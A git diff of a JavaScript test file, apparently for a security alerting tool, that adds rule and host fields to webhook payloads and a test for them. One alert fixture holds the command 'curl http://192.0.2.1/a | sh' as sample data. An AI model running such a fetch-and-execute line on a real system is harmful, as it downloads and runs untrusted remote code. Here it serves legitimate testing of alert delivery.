@@ -41,6 +41,8 @@ describe('the body of a webhook', () => {
           url: 'https://margay.example.com/alerts/a1b2c3',
         },
         columns: { command: 'curl http://192.0.2.1/a | sh' },
+        rule: null,
+        hosts: null,
         truncated: false,
         context: { command: 'curl' },
       },
@@ -60,7 +62,11 @@ describe('the body of a webhook', () => {
       statusBy: 'ada',
     })
     const [body] = bodiesOf({ action, alert })
-    expect(body).toMatchObject({ type, timestamp, data: { columns: null, context: null, truncated: false } })
+    expect(body).toMatchObject({
+      type,
+      timestamp,
+      data: { columns: null, context: null, rule: null, truncated: false },
+    })
     expect(body.data.alert).toMatchObject({ status: 'resolved', status_by: 'ada', event_count: 3 })
   })
 
@@ -70,6 +76,19 @@ describe('the body of a webhook', () => {
       publicUrl: null,
     })
     expect(body.data.alert).toMatchObject({ host: null, url: null })
+  })
+
+  it('tells what its rule says, and whom it concerns when these are several', () => {
+    const rule = {
+      means: 'Code runs.',
+      check: 'SELECT 1',
+      benign: 'Updates.',
+      references: ['https://example.com/'],
+    }
+    expect(bodiesOf({ rule, hosts: ['web-1', 'web-2'] })[0].data).toMatchObject({
+      rule,
+      hosts: ['web-1', 'web-2'],
+    })
   })
 
   it('says that it is a test', () => {
